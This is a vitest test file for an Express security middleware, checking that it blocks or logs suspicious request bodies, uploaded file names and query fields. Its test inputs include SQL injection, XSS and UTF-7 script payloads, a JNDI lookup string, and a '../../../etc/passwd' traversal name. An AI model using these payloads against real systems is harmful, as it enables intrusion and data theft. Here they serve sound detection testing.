import express from 'express'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Kit, listen, openKit } from '../../../test/adapters/site.ts'

type Site = Awaited<ReturnType<typeof listen>>
const union = "' union select password from users--"

/** What multer, express-fileupload and formidable leave in a request. */
const filesOf = (name: string): Readonly<Record<string, object>> => ({
  single: { body: {}, file: { fieldname: 'a', originalname: name, mimetype: 'text/plain' } },
  list: { body: {}, files: [{ fieldname: 'a', originalname: name }] },
  fields: { body: {}, files: { a: [{ originalname: name }] } },
  upload: { body: {}, files: { a: { name, data: Buffer.from('x') } } },
  other: { body: {}, files: { a: [{ originalFilename: name }] } },
})

/** The name of the file that the next request is parsed to hold. */
const sent = { file: '' }

async function open(mode: 'block' | 'monitor' | 'off') {
  const kit = await openKit({ detection: { mode } })
  const { security } = kit
  const app = security.protect(express())
  const fine: express.RequestHandler = (_request, response) => void response.json({})
  const text = express.text({ type: ['text/plain', '*/xml'] })
  app.post('/text', security.open(), text, security.inspect(), fine)
  app.post('/unread', security.open(), security.inspect(), fine)
  const raw = express.raw({ type: ['*/xml', 'text/plain'] })
  app.post('/raw', security.open(), raw, security.inspect(), fine)
  const json = express.json({ type: 'application/vnd.api+json' })
  app.post('/json', security.open(), json, security.inspect(), fine)
  const parsed: express.RequestHandler = (request, _response, next) => {
    Object.assign(request, filesOf(sent.file)[String(request.params.kind)])
    next()
  }
  app.post('/files/:kind', security.open(), parsed, security.inspect(), fine)
  return { kit, site: await listen(app) }
}

const post = (site: Site, path: string, { body, type }: { type: string; body: string | Buffer }) =>
  site.fetch(path, { method: 'POST', headers: { 'content-type': type }, body: body as string })

describe('inspect() in mode block', () => {
  let kit: Kit
  let site: Site
  beforeAll(async () => {
    const opened = await open('block')
    kit = opened.kit
    site = opened.site
  })
  afterAll(async () => {
    await site.stop()
    await kit.close()
  })

  it.each([
    ['text/plain', '<script>alert(1)</script>'],
    ['text/plain', `1${union}`],
    ['text/plain', '<img src=x onerror=alert(1)>'],
    ['text/xml', '<a><![CDATA[<script>alert(1)</script>]]></a>'],
    ['text/xml', '<svg onload=alert(1)>'],
    ['text/xml', `<a b='1' c="x${union}"/>`],
  ])('refuses an attack in %s: %s', async (type, body) => {
    expect((await post(site, '/text', { type, body })).json?.code).toBe('request_suspicious')
  })

  const framed = '<p><iframe src="https://evil.example"></iframe></p>'
  it.each(['text/plain', 'text/plain; x=/xml', 'text/plain; x="+xml"', 'text/xml'])(
    'the parameters of a type do not choose how a body is read: %s',
    async (type) => {
      const parts = { type, body: '<p><a style="behavior:url(x)">x</a><iframe srcdoc=""/></p>' }
      expect((await post(site, '/text', parts)).json?.code).toBe('request_suspicious')
      expect((await post(site, '/raw', { type, body: framed })).status).toBe(403)
      const sheet = { type, body: '<p><style>a{}</style></p>' }
      const isPlain = type.startsWith('text/plain')
      expect((await post(site, '/text', sheet)).status).toBe(isPlain ? 403 : 200)
    },
  )

  it('an attack in UTF-16 is one, and what is in an encoding that is not read is refused', async () => {
    const type = 'application/xml'
    const attack = `<a>${union}</a>`
    const wide = [
      Buffer.from(`\ufeff${attack}`, 'utf16le'),
      Buffer.from(attack, 'utf16le').swap16(),
    ]
    for (const body of [Buffer.from(attack), ...wide]) {
      expect((await post(site, '/raw', { type, body })).json?.code).toBe('request_suspicious')
    }
    const strange = { type: 'text/xml; charset=utf-7', body: '+ADw-script+AD4-' }
    const answer = await post(site, '/raw', strange)
    expect([answer.status, answer.json?.code]).toEqual([415, 'body_encoding_unknown'])
    const legal = Buffer.from('\ufeff<a>Grüße</a>', 'utf16le')
    expect((await post(site, '/raw', { type, body: legal })).status).toBe(200)
  })

  it('a body of any depth that its parser took is looked through', async () => {
    const type = 'application/vnd.api+json'
    const deep = (text: string) => `${'['.repeat(45_000)}"${text}"${']'.repeat(45_000)}`
    expect((await post(site, '/json', { type, body: deep('fine') })).status).toBe(200)
    const lookup = deep(['$', '{jndi:ldap://a.example/a}'].join(''))
    expect((await post(site, '/json', { type, body: lookup })).json?.code).toBe(
      'request_suspicious',
    )
  })

  it('refuses a body that no parser has read, and says so once in the log', async () => {
    for (const path of ['/unread', '/unread']) {
      const answer = await post(site, path, { type: 'text/plain', body: union })
      expect([answer.status, answer.json?.code]).toEqual([503, 'unavailable'])
    }
    const other = await post(site, '/text', { type: 'text/csv', body: union })
    expect(other.status).toBe(503)
    const lines = kit.log.filter(({ message }) => message.startsWith('inspect on POST /unread'))
    expect(lines).toHaveLength(1)
    expect((await site.fetch('/unread', { method: 'POST' })).status).toBe(200)
  })

  it.each(['single', 'list', 'fields', 'upload', 'other'])(
    'reads the names of files, as a parser leaves them: %s',
    async (kind) => {
      const send = (file: string) => {
        sent.file = file
        return post(site, `/files/${kind}`, { type: 'multipart/form-data; boundary=a', body: 'a' })
      }
      expect((await send('../../../etc/passwd')).json?.code).toBe('request_suspicious')
      expect((await send('<img src=x onerror=alert(1)>.png')).status).toBe(403)
      for (const name of ['backup.zip', 'Makefile', "O'Brien (1).pdf", 'Q1 & Q2.xlsx']) {
        expect([name, (await send(name)).status]).toEqual([name, 200])
      }
    },
  )

  it('a name of a field that a stranger made up stands in no log and no record', async () => {
    kit.log.length = 0
    kit.clock.advance(60_000)
    const query = `Johnathan-Smythe41=${encodeURIComponent(union)}&q=1`
    expect((await site.fetch(`/text?${query}`)).status).toBe(403)
    const { audit } = kit.security.parts.ground
    await kit.security.parts.rooms.detector.flush()
    const items = await audit.find({ action: 'detection.blocked', limit: 50 })
    expect(JSON.stringify(items)).toContain('query.:name')
    const line = kit.log.find(({ message }) => message === 'a request looks like an attack')
    expect(JSON.stringify(line?.fields.findings)).toContain('query.:name')
    expect(JSON.stringify([items, kit.log])).not.toContain('Smythe')
  })
})

it.each(['monitor', 'off'] as const)('inspect() lets pass in mode %s', async (mode) => {
  const { kit, site } = await open(mode)
  expect((await post(site, '/unread', { type: 'text/plain', body: union })).status).toBe(200)
  const told = kit.log.some(({ message }) => message.startsWith('inspect on POST /unread'))
  expect(told).toBe(mode === 'monitor')
  const strange = { type: 'text/xml; charset=utf-7', body: '+ADw-script+AD4-' }
  expect((await post(site, '/raw', strange)).status).toBe(200)
  const lines = kit.log.filter(({ message }) => message.startsWith('inspect on POST /raw'))
  expect(lines).toHaveLength(mode === 'monitor' ? 1 : 0)
  await site.stop()
  await kit.close()
})
